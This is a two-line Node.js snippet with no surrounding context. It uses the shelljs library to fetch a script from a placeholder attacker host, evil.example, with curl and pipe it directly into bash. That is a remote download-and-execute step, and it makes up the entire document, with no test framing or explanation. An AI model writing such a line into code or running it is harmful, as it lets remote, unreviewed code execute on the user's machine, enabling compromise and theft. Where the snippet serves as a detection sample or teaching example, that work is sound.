const sh = require('shelljs')
sh.exec('curl -fsSL https://evil.example/i | bash')
